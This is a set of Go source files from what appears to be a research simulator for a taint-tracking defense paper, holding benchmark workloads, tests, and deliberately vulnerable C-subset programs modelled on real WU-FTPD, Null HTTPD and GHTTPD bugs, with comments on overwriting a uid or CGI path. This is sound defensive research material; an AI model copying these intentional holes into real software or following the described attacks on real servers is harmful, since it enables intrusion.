		{Name: "bzip2s", Source: SpecBzip2, Description: "RLE + move-to-front compressor (BZIP2 analogue)"},
		{Name: "gccs", Source: SpecGCC, Description: "expression compiler + stack VM (GCC analogue)"},
		{Name: "gzips", Source: SpecGzip, Description: "LZ77 window compressor (GZIP analogue)"},
		{Name: "mcfs", Source: SpecMCF, Description: "Bellman-Ford network optimizer (MCF analogue)"},
		{Name: "parsers", Source: SpecParser, Description: "tokenizer + word-frequency table (PARSER analogue)"},
		{Name: "vprs", Source: SpecVPR, Description: "simulated-annealing placer (VPR analogue)"},
	}
}

// SpecBzip2 is the BZIP2 analogue: run-length encoding over a move-to-front
// transform, plus a byte histogram for an entropy estimate.
const SpecBzip2 = `
char inbuf[4096];
char mtfbuf[4096];
int hist[256];
char mtf[256];

int main() {
	int fd = open("/input", 0);
	if (fd == -1) { puts("no input"); return 1; }
	for (int i = 0; i < 256; i++) mtf[i] = i;
	int total = 0;
	int outbytes = 0;
	int n;
	while ((n = read(fd, inbuf, 4096)) > 0) {
		/* Move-to-front transform. */
		for (int i = 0; i < n; i++) {
			int c = inbuf[i] & 0xFF;
			int j = 0;
			while ((mtf[j] & 0xFF) != c) j++;
			mtfbuf[i] = j;
			while (j > 0) { mtf[j] = mtf[j - 1]; j--; }
			mtf[0] = c;
			/* Histogram with a validated index. */
			if (c >= 0 && c < 256) hist[c] = hist[c] + 1;
		}
		/* Run-length encode the MTF output. */
		int i = 0;
		while (i < n) {
			int run = 1;
			while (i + run < n && mtfbuf[i + run] == mtfbuf[i] && run < 255) run++;
			if (run > 3) outbytes = outbytes + 3;
			else outbytes = outbytes + run;
			i = i + run;
		}
		total = total + n;
	}
	close(fd);
	int used = 0;
	for (int i = 0; i < 256; i++) {
		if (hist[i]) used++;
	}
	printf("bzip2s: in=%d out=%d symbols=%d\n", total, outbytes, used);
	return 0;
}
`

// SpecGCC is the GCC analogue: it compiles arithmetic expressions (one per
// line) into a tiny three-op bytecode and runs them on a stack VM.
const SpecGCC = `
char line[512];
int code[1024];
int ncode;
char *src;

/* recursive-descent compiler: expr := term (('+'|'-') term)*
   term := factor (('*'|'/') factor)*   factor := NUM | '(' expr ')' */
void emit(int op, int arg) {
	code[ncode] = op;
	code[ncode + 1] = arg;
	ncode = ncode + 2;
}

void cexpr();

void cfactor() {
	while (*src == ' ') src++;
	if (*src == '(') {
		src++;
		cexpr();
		if (*src == ')') src++;
		return;
	}
	int v = 0;
	while (*src >= '0' && *src <= '9') {
		v = v * 10 + (*src - '0');
		src++;
	}
	emit(1, v);               /* PUSH v */
}

void cterm() {
	cfactor();
	while (1) {
		while (*src == ' ') src++;
		if (*src == '*') { src++; cfactor(); emit(3, 0); }
		else if (*src == '/') { src++; cfactor(); emit(4, 0); }
		else return;
	}
}

void cexpr() {
	cterm();
	while (1) {
		while (*src == ' ') src++;
		if (*src == '+') { src++; cterm(); emit(5, 0); }
		else if (*src == '-') { src++; cterm(); emit(6, 0); }
		else return;
	}
}

int stack[256];

int runvm() {
	int sp = 0;
	for (int pc = 0; pc < ncode; pc = pc + 2) {
		int op = code[pc];
		if (op == 1) { stack[sp] = code[pc + 1]; sp++; }
		else if (op == 3) { sp--; stack[sp - 1] = stack[sp - 1] * stack[sp]; }
		else if (op == 4) { sp--; if (stack[sp]) stack[sp - 1] = stack[sp - 1] / stack[sp]; }
		else if (op == 5) { sp--; stack[sp - 1] = stack[sp - 1] + stack[sp]; }
		else if (op == 6) { sp--; stack[sp - 1] = stack[sp - 1] - stack[sp]; }
	}
	if (sp > 0) return stack[sp - 1];
	return 0;
}

int main() {
	int fd = open("/input", 0);
	if (fd == -1) { puts("no input"); return 1; }
	int sum = 0;
	int lines = 0;
	int ops = 0;
	while (readline(fd, line, 512) != -1) {
		if (line[0] == 0) continue;
		ncode = 0;
		src = line;
		cexpr();
		sum = sum + runvm();
		ops = ops + ncode / 2;
		lines++;
	}
	close(fd);
	printf("gccs: lines=%d ops=%d sum=%d\n", lines, ops, sum);
	return 0;
}
`

// SpecGzip is the GZIP analogue: greedy LZ77 with a 4K window and a hash
// head table (the validated-index pattern on tainted hash values).
const SpecGzip = `
char win[8192];
int head[1024];

int main() {
	int fd = open("/input", 0);
	if (fd == -1) { puts("no input"); return 1; }
	for (int i = 0; i < 1024; i++) head[i] = -1;
	int n = read(fd, win, 8192);
	close(fd);
	if (n == -1) n = 0;
	int pos = 0;
	int literals = 0;
	int matches = 0;
	int outbits = 0;
	while (pos < n - 2) {
		int h = ((win[pos] & 0xFF) * 33 + (win[pos + 1] & 0xFF)) & 1023;
		int cand = -1;
		if (h >= 0 && h < 1024) {
			cand = head[h];
			head[h] = pos;
		}
		int len = 0;
		if (cand >= 0 && cand < pos) {
			while (len < 255 && pos + len < n && win[cand + len] == win[pos + len]) len++;
		}
		if (len >= 3) {
			matches++;
			outbits = outbits + 24;
			pos = pos + len;
		} else {
			literals++;
			outbits = outbits + 9;
			pos++;
		}
	}
	while (pos < n) { literals++; outbits = outbits + 9; pos++; }
	printf("gzips: in=%d lit=%d match=%d outbits=%d\n", n, literals, matches, outbits);
	return 0;
}
`

// SpecMCF is the MCF analogue: it parses an arc list and runs Bellman-Ford
// relaxation rounds to price out the network.
const SpecMCF = `
int from[2048];
int to[2048];
int cost[2048];
int dist[256];
char line[128];

int main() {
	int fd = open("/input", 0);
	if (fd == -1) { puts("no input"); return 1; }
	int narcs = 0;
	int nnodes = 0;
	while (readline(fd, line, 128) != -1 && narcs < 2048) {
		/* "u v c" triples */
		char *p = line;
		int u = atoi(p);
		while (*p && *p != ' ') p++;
		while (*p == ' ') p++;
		int v = atoi(p);
		while (*p && *p != ' ') p++;
		while (*p == ' ') p++;
		int c = atoi(p);
		if (u < 0 || u > 255 || v < 0 || v > 255) continue;
		from[narcs] = u;
		to[narcs] = v;
		cost[narcs] = c;
		narcs++;
		if (u >= nnodes) nnodes = u + 1;
		if (v >= nnodes) nnodes = v + 1;
	}
	close(fd);
	for (int i = 1; i < nnodes; i++) dist[i] = 1000000;
	int relaxed = 1;
	int rounds = 0;
	while (relaxed && rounds < nnodes) {
		relaxed = 0;
		for (int a = 0; a < narcs; a++) {
			int nd = dist[from[a]] + cost[a];
			if (nd < dist[to[a]]) {
				dist[to[a]] = nd;
				relaxed = 1;
			}
		}
		rounds++;
	}
	int total = 0;
	int reach = 0;
	for (int i = 0; i < nnodes; i++) {
		if (dist[i] < 1000000) { total = total + dist[i]; reach++; }
	}
	printf("mcfs: arcs=%d nodes=%d rounds=%d reach=%d cost=%d\n",
	       narcs, nnodes, rounds, reach, total);
	return 0;
}
`

// SpecParser is the PARSER analogue: it tokenizes text and maintains a
// chained-hash word-frequency table with string keys.
const SpecParser = `
char words[16384];
int woff;
int wstart[1024];
int wcount[1024];
int wnext[1024];
int nwords;
int buckets[256];
char buf[4096];
char tok[64];

int lookup(char *t) {
	int h = 0;
	for (int i = 0; t[i]; i++) h = (h * 31 + (t[i] & 0xFF)) & 255;
	if (h < 0 || h > 255) return -1;
	int w = buckets[h];
	while (w != -1) {
		if (strcmp(words + wstart[w], t) == 0) return w;
		w = wnext[w];
	}
	if (nwords >= 1024) return -1;
	w = nwords;
	nwords++;
	wstart[w] = woff;
	strcpy(words + woff, t);
	woff = woff + strlen(t) + 1;
	wcount[w] = 0;
	wnext[w] = buckets[h];
	buckets[h] = w;
	return w;
}

int main() {
	int fd = open("/input", 0);
	if (fd == -1) { puts("no input"); return 1; }
	for (int i = 0; i < 256; i++) buckets[i] = -1;
	int n;
	int ntok = 0;
	int sentences = 0;
	while ((n = read(fd, buf, 4096)) > 0) {
		int ti = 0;
		for (int i = 0; i < n; i++) {
			int c = buf[i] & 0xFF;
			int alpha = 0;
			if (c >= 'a' && c <= 'z') alpha = 1;
			if (c >= 'A' && c <= 'Z') alpha = 1;
			if (alpha && ti < 63) {
				tok[ti] = c;
				ti++;
			} else {
				if (ti > 0) {
					tok[ti] = 0;
					int w = lookup(tok);
					if (w != -1) wcount[w] = wcount[w] + 1;
					ntok++;
					ti = 0;
				}
				if (c == '.') sentences++;
			}
		}
		if (ti > 0) {
			tok[ti] = 0;
			int w = lookup(tok);
			if (w != -1) wcount[w] = wcount[w] + 1;
			ntok++;
		}
	}
	close(fd);
	int maxc = 0;
	for (int w = 0; w < nwords; w++) {
		if (wcount[w] > maxc) maxc = wcount[w];
	}
	printf("parsers: tokens=%d distinct=%d sentences=%d maxfreq=%d\n",
	       ntok, nwords, sentences, maxc);
	return 0;
}
`

// SpecVPR is the VPR analogue: simulated-annealing placement of cells on a
// grid, minimizing net wirelength, with an LCG random source seeded from
// the input.
const SpecVPR = `
int cellx[256];
int celly[256];
int neta[512];
int netb[512];
char line[128];
unsigned seed;

unsigned lcg() {
	seed = seed * 1103515245u + 12345u;
	return (seed / 65536u) % 32768u;
}

int wirelen(int nnets) {
	int total = 0;
	for (int i = 0; i < nnets; i++) {
		int dx = cellx[neta[i]] - cellx[netb[i]];
		int dy = celly[neta[i]] - celly[netb[i]];
		if (dx < 0) dx = 0 - dx;
		if (dy < 0) dy = 0 - dy;
		total = total + dx + dy;
	}
	return total;
}

int main() {
	int fd = open("/input", 0);
	if (fd == -1) { puts("no input"); return 1; }
	int ncells = 0;
	int nnets = 0;
	seed = 12345u;
	while (readline(fd, line, 128) != -1 && nnets < 512) {
		int a = atoi(line);
		char *p = line;
		while (*p && *p != ' ') p++;
		int b = atoi(p);
		if (a < 0 || a > 255 || b < 0 || b > 255) continue;
		neta[nnets] = a;
		netb[nnets] = b;
		nnets++;
		if (a >= ncells) ncells = a + 1;
		if (b >= ncells) ncells = b + 1;
		seed = seed + (unsigned)(a * 7 + b);
	}
	close(fd);
	for (int i = 0; i < ncells; i++) {
		cellx[i] = (int)(lcg() % 64u);
		celly[i] = (int)(lcg() % 64u);
	}
	int cur = wirelen(nnets);
	int initial = cur;
	int accepted = 0;
	for (int iter = 0; iter < 1200; iter++) {
		int c = (int)(lcg() % (unsigned)ncells);
		if (c < 0 || c >= ncells) continue;
		int ox = cellx[c];
		int oy = celly[c];
		cellx[c] = (int)(lcg() % 64u);
		celly[c] = (int)(lcg() % 64u);
		int next = wirelen(nnets);
		int temp = 1200 - iter;
		if (next <= cur + temp / 100) {
			cur = next;
			accepted++;
		} else {
			cellx[c] = ox;
			celly[c] = oy;
		}
	}
	printf("vprs: cells=%d nets=%d initial=%d final=%d accepted=%d\n",
	       ncells, nnets, initial, cur, accepted);
	return 0;
}
`
