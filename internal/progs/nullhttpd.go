package progs

// NullHTTPD models the Null HTTPD remote heap overflow (SecurityFocus BID
// 5774): a POST request with a negative Content-Length makes the server
// size its body buffer as 1024+ContentLength while reading the actual body
// bytes unbounded, overflowing the heap chunk into the adjacent free
// chunk's links. Freeing the buffer then unlinks the corrupted chunk —
// an arbitrary-word write. The paper's non-control-data attack redirects
// that write at the CGI-BIN path configuration so "/bin/sh" becomes an
// approved CGI program; the classic control-data attack aims it at the
// handler's saved return address.
const NullHTTPD = `
char cgipath[16] = "/cgi";   /* CGI root */
int cgi_unrestricted = 0;    /* config word: the non-control-data target.
                                Nonzero disables the CGI root check — the
                                word-granular equivalent of the paper's
                                CGI-BIN = "/bin" overwrite. */

void respond(int fd, char *status, char *body) {
	fputs("HTTP/1.0 ", fd);
	fputs(status, fd);
	fputs("\r\n\r\n", fd);
	fputs(body, fd);
	fputs("\n", fd);
}

/* run_request dispatches one parsed request. CGI execution is modeled by
   the EXEC response line; a real server would fork/exec the path. */
void run_request(int fd, char *method, char *url) {
	if (cgi_unrestricted || strncmp(url, cgipath, strlen(cgipath)) == 0) {
		fputs("HTTP/1.0 200 OK\r\n\r\nEXEC ", fd);
		fputs(url, fd);
		fputs("\n", fd);
		return;
	}
	respond(fd, "200 OK", "<html>welcome</html>");
}

/* handle reads one request; returns 0 on connection end. */
int handle(int conn) {
	char line[256];
	char method[8];
	char url[128];
	if (readline(conn, line, 256) == -1) return 0;
	/* Parse "METHOD URL HTTP/x". */
	int i = 0;
	while (line[i] && line[i] != ' ' && i < 7) { method[i] = line[i]; i++; }
	method[i] = 0;
	while (line[i] == ' ') i++;
	int j = 0;
	while (line[i] && line[i] != ' ' && j < 127) { url[j] = line[i]; i++; j++; }
	url[j] = 0;

	/* Headers. */
	int contentlen = 0;
	while (readline(conn, line, 256) > 0) {
		if (strncmp(line, "Content-Length:", 15) == 0) {
			contentlen = atoi(line + 15);
		}
	}

	if (strcmp(method, "POST") == 0) {
		char *scratch = malloc(256);    /* per-request work area */
		free(scratch);                  /* ...freed before body handling */
		/* VULN: negative Content-Length shrinks the allocation... */
		char *postdata = calloc(1024 + contentlen);
		int off = 0;
		int n;
		/* ...while the body is read until the client stops sending. */
		while ((n = recv(conn, postdata + off, 128, 0)) > 0) {
			off = off + n;
			if (off > 7936) break;
		}
		run_request(conn, method, url);
		free(postdata);                 /* unlink of the corrupted chunk */
		return 1;
	}
	run_request(conn, method, url);
	return 1;
}

int main() {
	int fd = socket();
	bind(fd, 80);
	listen(fd, 5);
	while (1) {
		int conn = accept(fd);
		while (handle(conn)) {}
		close(conn);
	}
	return 0;
}
`
