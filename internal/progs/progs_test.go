package progs_test

import (
	"strings"
	"testing"

	"repro/internal/attack"
	"repro/internal/progs"
	"repro/internal/taint"
)

func TestCorpusCompiles(t *testing.T) {
	for _, p := range progs.All() {
		if _, err := p.Build(); err != nil {
			t.Errorf("%s does not build: %v", p.Name, err)
		}
	}
}

func TestByName(t *testing.T) {
	if _, ok := progs.ByName("exp1"); !ok {
		t.Error("exp1 missing")
	}
	if _, ok := progs.ByName("nonesuch"); ok {
		t.Error("nonesuch found")
	}
	if len(progs.All()) < 13 {
		t.Errorf("corpus has %d programs, want >= 13", len(progs.All()))
	}
}

// TestSyntheticBenign runs the Fig. 2 programs with harmless input: no
// alerts, normal completion.
func TestSyntheticBenign(t *testing.T) {
	cases := []struct {
		name  string
		stdin string
		want  string
	}{
		{"exp1", "hello\n", "exp1 returned normally"},
		{"exp2", "short\n", "exp2 returned normally"},
	}
	for _, c := range cases {
		p, _ := progs.ByName(c.name)
		m, err := attack.Boot(p, attack.Options{
			Policy: taint.PolicyPointerTaintedness,
			Stdin:  []byte(c.stdin),
		})
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if err := m.Run(); err != nil {
			t.Errorf("%s benign run: %v", c.name, err)
			continue
		}
		if !strings.Contains(m.Kernel.Stdout(), c.want) {
			t.Errorf("%s stdout = %q", c.name, m.Kernel.Stdout())
		}
	}
	// exp3 with a harmless (non-%n) request.
	p, _ := progs.ByName("exp3")
	m, err := attack.Boot(p, attack.Options{Policy: taint.PolicyPointerTaintedness})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.RunToBlock(); err != nil {
		t.Fatal(err)
	}
	ep, err := m.Connect(9000)
	if err != nil {
		t.Fatal(err)
	}
	_, runErr := m.Transact(ep, "hello from a benign client")
	if runErr != nil {
		t.Fatalf("exp3 benign: %v", runErr)
	}
	// exp3's printf goes to stdout (paper Fig. 2: printf(buf)).
	if !strings.Contains(m.Kernel.Stdout(), "hello from a benign client") {
		t.Errorf("exp3 printed %q", m.Kernel.Stdout())
	}
}

// specExpect pins the deterministic output of each SPEC analogue on the
// scale-1 reference input — both a correctness check of the workload and
// regression protection for the Table 3 rows.
var specExpect = map[string]string{
	"bzip2s":  "bzip2s: in=3000",
	"gccs":    "gccs: lines=60",
	"gzips":   "gzips: in=6000",
	"mcfs":    "mcfs: arcs=",
	"parsers": "parsers: tokens=",
	"vprs":    "vprs: cells=",
}

func TestSpecWorkloadsRunCleanly(t *testing.T) {
	for _, p := range progs.SpecSuite() {
		input := progs.SpecInput(p.Name, 1)
		if len(input) == 0 {
			t.Fatalf("no input generator for %s", p.Name)
		}
		m, err := attack.Boot(p, attack.Options{
			Policy: taint.PolicyPointerTaintedness,
			Files:  map[string][]byte{"/input": input},
		})
		if err != nil {
			t.Fatalf("%s: %v", p.Name, err)
		}
		if err := m.Run(); err != nil {
			t.Errorf("%s: %v", p.Name, err)
			continue
		}
		outText := m.Kernel.Stdout()
		if !strings.Contains(outText, specExpect[p.Name]) {
			t.Errorf("%s output = %q, want prefix %q", p.Name, outText, specExpect[p.Name])
		}
		if alerts := m.CPU.Stats().Alerts; alerts != 0 {
			t.Errorf("%s raised %d alerts on benign input", p.Name, alerts)
		}
		if ins := m.CPU.Stats().Instructions; ins < 100_000 {
			t.Errorf("%s executed only %d instructions; workload too trivial", p.Name, ins)
		}
		t.Logf("%s: %d instructions, %d input bytes, output %q",
			p.Name, m.CPU.Stats().Instructions, len(input), strings.TrimSpace(outText))
	}
}

// TestSpecOutputsStable verifies determinism: two runs produce identical
// output and instruction counts.
func TestSpecOutputsStable(t *testing.T) {
	p, _ := progs.ByName("gzips")
	var outs []string
	var counts []uint64
	for i := 0; i < 2; i++ {
		m, err := attack.Boot(p, attack.Options{
			Policy: taint.PolicyPointerTaintedness,
			Files:  map[string][]byte{"/input": progs.SpecInput("gzips", 1)},
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := m.Run(); err != nil {
			t.Fatal(err)
		}
		outs = append(outs, m.Kernel.Stdout())
		counts = append(counts, m.CPU.Stats().Instructions)
	}
	if outs[0] != outs[1] || counts[0] != counts[1] {
		t.Errorf("nondeterministic workload: %q/%d vs %q/%d", outs[0], counts[0], outs[1], counts[1])
	}
}

func TestSpecInputsDeterministic(t *testing.T) {
	for _, p := range progs.SpecSuite() {
		a := progs.SpecInput(p.Name, 1)
		b := progs.SpecInput(p.Name, 1)
		if string(a) != string(b) {
			t.Errorf("%s input generator is nondeterministic", p.Name)
		}
		big := progs.SpecInput(p.Name, 3)
		if len(big) <= len(a) {
			t.Errorf("%s scale 3 not larger than scale 1", p.Name)
		}
	}
	if progs.SpecInput("unknown", 1) != nil {
		t.Error("unknown workload produced input")
	}
	if progs.SpecInput("bzip2s", 0) == nil {
		t.Error("scale 0 not clamped")
	}
}
