package progs

// GHTTPD models the gazos-httpd Log() stack buffer overflow (SecurityFocus
// BID 5960): the request line is copied into a 200-byte stack buffer with
// no bound. The paper's non-control-data attack overwrites the URL
// *pointer* local — after the "/.." path-traversal policy check has passed
// — redirecting it at an illegitimate URL elsewhere in the request; the
// classic control-data attack overwrites the saved return address.
const GHTTPD = `
void respond(int fd, char *status, char *body) {
	fputs("HTTP/1.0 ", fd);
	fputs(status, fd);
	fputs("\r\n\r\n", fd);
	fputs(body, fd);
	fputs("\n", fd);
}

/* serve dereferences the URL: with a corrupted pointer this is where the
   tainted load-byte (LB) fires, as in the paper. */
void serve(int conn, char *url) {
	if (strncmp(url, "/cgi-bin/", 9) == 0) {
		fputs("HTTP/1.0 200 OK\r\n\r\nEXEC ", conn);
		fputs(url, conn);
		fputs("\n", conn);
		return;
	}
	respond(conn, "200 OK", "<html>index</html>");
}

void handle(int conn, char *req) {
	char *url;             /* first local: sits just below the saved fp */
	char buf[200];         /* the Log() buffer */
	char *sp;

	if (strncmp(req, "GET ", 4) != 0) {
		respond(conn, "501 Not Implemented", "bad method");
		return;
	}
	url = req + 4;
	sp = strchr(url, ' ');
	if (sp) *sp = 0;

	/* Security policy: no path traversal outside the web root. */
	if (strstr(url, "/..")) {
		respond(conn, "403 Forbidden", "path traversal rejected");
		return;
	}

	/* Log the request line (the vulnerable copy: first line of req into a
	   200-byte buffer, no bound — overruns url and beyond). */
	int i = 0;
	while (req[i] && req[i] != '\n') {
		buf[i] = req[i];   /* VULN */
		i++;
	}
	buf[i] = 0;

	serve(conn, url);
}

int main() {
	int fd = socket();
	bind(fd, 8080);
	listen(fd, 5);
	int conn = accept(fd);
	char req[600];
	int n = recv(conn, req, 599, 0);
	if (n == -1) return 1;
	req[n] = 0;
	handle(conn, req);
	return 0;
}
`
