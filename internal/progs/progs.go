package progs

import (
	"sync"

	"repro/internal/asm"
	"repro/internal/cc"
	"repro/internal/rtl"
)

// Program is one corpus entry.
type Program struct {
	// Name is the corpus identifier (e.g. "exp1", "wuftpd").
	Name string
	// Source is the ptcc C source.
	Source string
	// Description summarizes the vulnerability or workload.
	Description string
}

// imageCache memoizes built images: corpus sources are constants and an
// Image is read-only after assembly, so every Boot can share one build.
var imageCache sync.Map

// Build compiles a corpus program against the runtime library. Results
// are cached per program name.
func (p Program) Build() (*asm.Image, error) {
	if im, ok := imageCache.Load(p.Name); ok {
		return im.(*asm.Image), nil
	}
	im, err := rtl.Build(cc.Unit{Name: p.Name + ".c", Src: p.Source})
	if err != nil {
		return nil, err
	}
	imageCache.Store(p.Name, im)
	return im, nil
}

// Synthetic returns the Figure 2 vulnerable programs.
func Synthetic() []Program {
	return []Program{
		{Name: "exp1", Source: Exp1, Description: "stack buffer overflow (Fig. 2)"},
		{Name: "exp2", Source: Exp2, Description: "heap corruption via free-chunk links (Fig. 2)"},
		{Name: "exp3", Source: Exp3, Description: "format string %n write (Fig. 2)"},
	}
}

// FalseNegatives returns the Table 4 scenarios the mechanism cannot catch.
func FalseNegatives() []Program {
	return []Program{
		{Name: "fn-intoverflow", Source: FNIntegerOverflow,
			Description: "integer overflow past a flawed bounds check (Table 4A)"},
		{Name: "fn-authflag", Source: FNAuthFlag,
			Description: "buffer overflow of an adjacent auth flag (Table 4B)"},
		{Name: "fn-infoleak", Source: FNInfoLeak,
			Description: "format-string %x information leak (Table 4C)"},
		{Name: "fn-authflag-annotated", Source: FNAuthFlagAnnotated,
			Description: "Table 4B with the Section 5.3 annotation extension"},
	}
}

// Applications returns the Section 5.1.2 real-world target analogues.
func Applications() []Program {
	return []Program{
		{Name: "wuftpd", Source: WuFTPD, Description: "WU-FTPD SITE EXEC format string (BID 1387)"},
		{Name: "nullhttpd", Source: NullHTTPD, Description: "Null HTTPD negative Content-Length heap overflow (BID 5774)"},
		{Name: "ghttpd", Source: GHTTPD, Description: "GHTTPD Log() stack overflow (BID 5960)"},
		{Name: "traceroute", Source: Traceroute, Description: "LBNL traceroute double free (BID 1739)"},
		{Name: "envutil", Source: EnvUtil, Description: "environment-variable stack overflow (env taint source)"},
		{Name: "wuftpd-patched", Source: WuFTPDPatched, Description: "WU-FTPD with the upstream fixes applied"},
	}
}

// ByName finds a corpus program.
func ByName(name string) (Program, bool) {
	for _, p := range All() {
		if p.Name == name {
			return p, true
		}
	}
	return Program{}, false
}

// All returns the complete corpus.
func All() []Program {
	var out []Program
	out = append(out, Synthetic()...)
	out = append(out, FalseNegatives()...)
	out = append(out, Applications()...)
	out = append(out, SpecSuite()...)
	return out
}
