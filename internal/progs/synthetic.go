// Package progs holds the simulator's program corpus, written in the ptcc
// C subset: the paper's Figure 2 synthetic vulnerable functions, the Table
// 4 false-negative scenarios, re-implementations of the four real-world
// targets of Section 5.1.2 (WU-FTPD, NULL-HTTPD, GHTTPD, traceroute), and
// the six SPEC 2000 analogue workloads of Table 3.
package progs

// Exp1 is Figure 2's stack buffer overflow: a 10-byte stack buffer filled
// by scanf("%s"). Overflowing input runs over the saved frame pointer and
// return address; the tainted return address trips the JR detector when
// exp1 returns (paper Section 5.1.1: alert at "JR $31" with the tainted
// value 0x61616161 for an input of 24 'a' characters).
const Exp1 = `
void exp1() {
	char buf[10];
	scanstr(buf);          /* scanf("%s", buf) */
}

int main() {
	exp1();
	puts("exp1 returned normally");
	return 0;
}
`

// Exp2 is Figure 2's heap corruption: an 8-byte heap buffer overflows into
// the adjacent free chunk's header and fd/bk links. When the buffer is
// freed, free()'s forward coalescing unlinks the corrupted chunk and
// dereferences the attacker-controlled fd (paper: alert at a load inside
// free() with the tainted value 0x61616161).
const Exp2 = `
int main() {
	char *buf = malloc(8);
	char *b = malloc(8);   /* chunk B, adjacent to buf's chunk */
	free(b);               /* B joins the free list: fd/bk live in B */
	scanstr(buf);          /* overflow buf into B's header and links */
	free(buf);             /* coalesce -> unlink(B) -> tainted fd deref */
	puts("exp2 returned normally");
	return 0;
}
`

// Exp3 is Figure 2's format string vulnerability: a network service that
// passes the received buffer straight to printf. A %n directive makes
// vfprintf dereference a word of the attacker's input as a store target
// (paper: alert at a store in vfprintf with the tainted value 0x64636261,
// the leading "abcd" of the input).
const Exp3 = `
void exp3(int s) {
	char buf[100];
	int n = recv(s, buf, 100, 0);
	if (n == -1) return;
	buf[n] = 0;
	printf(buf);           /* VULN: should be printf("%s", buf) */
}

int main() {
	int fd = socket();
	bind(fd, 9000);
	listen(fd, 1);
	int conn = accept(fd);
	exp3(conn);
	puts("");
	puts("exp3 returned normally");
	return 0;
}
`

// FNIntegerOverflow is Table 4(A): a flawed bounds check on a signed copy
// of an unsigned input. The compare untaints the index (the validation
// rule), so a huge unsigned value that wraps negative indexes out of
// bounds without any tainted-pointer dereference — a designed false
// negative for the paper's mechanism.
const FNIntegerOverflow = `
int secret = 7777;         /* sits just below array: array[-1] reaches it */
int array[10];

int main() {
	char buf[32];
	gets(buf);
	unsigned ui = 0;
	/* parse an unsigned decimal (atoi would clamp at '-') */
	char *p = buf;
	while (*p >= '0' && *p <= '9') {
		ui = ui * 10u + (unsigned)(*p - '0');
		p++;
	}
	int i = ui;            /* signed reinterpretation */
	if (i > 9) {           /* flawed: misses negative i */
		puts("rejected");
		return 1;
	}
	array[i] = 1234;       /* i may be negative: out-of-bounds write */
	printf("stored at %d secret=%d\n", i, secret);
	return 0;
}
`

// FNAuthFlag is Table 4(B): a buffer overflow that corrupts an adjacent
// authentication flag. No pointer is tainted, so no policy detects it; the
// attacker gains access without credentials.
const FNAuthFlag = `
int do_auth(char *pass) {
	return strcmp(pass, "s3cr3t") == 0;
}

int main() {
	int auth = 0;          /* first local: highest address, nearest $fp */
	char pass[16];
	char buf[32];          /* lowest: overflow runs up through pass to auth */
	readline(0, pass, 16);
	auth = do_auth(pass);  /* attacker sends a wrong password: auth = 0 */
	gets(buf);             /* VULN: second input overflows into auth */
	if (auth) {
		puts("access granted");
		return 0;
	}
	puts("access denied");
	return 1;
}
`

// FNInfoLeak is Table 4(C): a format string that only reads (%x) leaks
// stack contents — here a secret key adjacent to the input buffer —
// without dereferencing any tainted pointer.
const FNInfoLeak = `
void leak() {
	int secret_key = 0x5EC2E7;
	char buf[64];
	gets(buf);
	printf(buf);           /* VULN: %x directives read the stack */
	putchar('\n');
	if (secret_key) {}
}

int main() {
	leak();
	return 0;
}
`

// FNAuthFlagAnnotated is FNAuthFlag with the paper's Section 5.3 extension
// applied: the authentication flag is annotated as never-tainted, so the
// overflow that silently escaped detection in Table 4(B) now raises an
// alert the moment tainted input reaches the flag.
const FNAuthFlagAnnotated = `
int do_auth(char *pass) {
	return strcmp(pass, "s3cr3t") == 0;
}

int main() {
	int auth = 0;
	char pass[16];
	char buf[32];
	__annotate((char*)&auth, 4, "auth-flag");
	readline(0, pass, 16);
	auth = do_auth(pass);
	gets(buf);             /* the same overflow as Table 4(B) */
	if (auth) {
		puts("access granted");
		return 0;
	}
	puts("access denied");
	return 1;
}
`

// EnvUtil is a setuid-utility-shaped victim that copies an environment
// variable into a fixed stack buffer — the classic TERM/HOME overflow
// family. It demonstrates the paper's remaining taint source: environment
// strings are marked tainted at process startup, so the smashed return
// address is caught at JR like any other.
const EnvUtil = `
int main() {
	char term[16];
	char *val = getenv("TERM");
	if (!val) {
		puts("TERM not set");
		return 1;
	}
	strcpy(term, val);     /* VULN: unbounded copy of environment data */
	printf("terminal: %s\n", term);
	return 0;
}
`
