package progs

// WuFTPD models the Washington University FTP daemon with the Site Exec
// Command Format String Vulnerability (SecurityFocus BID 1387, the paper's
// Table 2 target): the SITE EXEC argument reaches a printf-family function
// as the format string. The non-control-data attack of Section 5.1.2
// overwrites the integer holding the logged-in user's ID to escalate to a
// privileged account, then uploads a backdoor /etc/passwd entry via STOR.
//
// A second, classic stack overflow in the CWD handler (WU-FTPD also had
// overflow CVEs, e.g. CVE-1999-0878) provides the control-data attack for
// the coverage matrix: a long path smashes do_cwd's return address.
//
// The large pad array pushes the uid word past offset 0x10000 of the data
// segment so that no byte of its address is NUL/CR/LF — the same
// constraint the paper's attacker faced when choosing 0x1002bc20.
const WuFTPD = `
char __bss_pad[69632];     /* address hygiene for the uid word (see above) */
int logged_in = 0;
int uid = 1000;            /* the non-control-data target */
char username[32];

void reply(int fd, char *msg) {
	fputs(msg, fd);
	fputs("\r\n", fd);
}

/* SITE EXEC handler. The command text ends up as the format argument of
   fprintf — the CVE-2000-0573 shape. */
void site_exec(int fd, char *cmd) {
	char msg[128];
	strcpy(msg, "200-");
	strcat(msg, cmd);
	fprintf(fd, msg);      /* VULN: user-controlled format string */
	fputs("\r\n", fd);
	reply(fd, "200 (end of exec)");
}

/* CWD handler with an unbounded copy into a fixed stack buffer. */
void do_cwd(int fd, char *path) {
	char dir[64];
	strcpy(dir, path);     /* VULN: stack smash */
	reply(fd, "250 CWD command successful");
}

/* STOR: privileged upload. UIDs below 100 are system accounts and may
   replace system files. */
void do_stor(int fd, char *path) {
	if (uid >= 100) {
		reply(fd, "550 Permission denied");
		return;
	}
	char content[256];
	if (readline(fd, content, 256) == -1) {
		reply(fd, "426 Transfer aborted");
		return;
	}
	int out = open(path, 0x241);   /* O_WRONLY|O_CREAT|O_TRUNC */
	write(out, content, strlen(content));
	close(out);
	reply(fd, "226 Transfer complete");
}

void session(int conn) {
	char line[512];
	while (readline(conn, line, 512) != -1) {
		if (strncmp(line, "USER ", 5) == 0) {
			strncpy(username, line + 5, 31);
			reply(conn, "331 Password required for user1 .");
		} else if (strncmp(line, "PASS ", 5) == 0) {
			logged_in = 1;
			uid = 1000;
			reply(conn, "230 User user1 logged in.");
		} else if (strncmp(line, "SITE EXEC ", 10) == 0) {
			if (logged_in) site_exec(conn, line + 10);
			else reply(conn, "530 Please login with USER and PASS.");
		} else if (strncmp(line, "CWD ", 4) == 0) {
